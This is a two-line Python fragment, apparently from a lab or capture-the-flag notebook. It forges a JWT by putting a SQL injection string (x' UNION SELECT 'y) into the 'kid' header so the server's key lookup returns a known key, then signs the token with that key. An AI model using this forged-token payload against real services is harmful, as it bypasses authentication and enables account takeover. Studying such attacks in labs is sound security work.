# with the function of notebook 01
queried = mine.sign_hs256({"alg": "HS256", "kid": "x' UNION SELECT 'y"}, wanted, b"y")
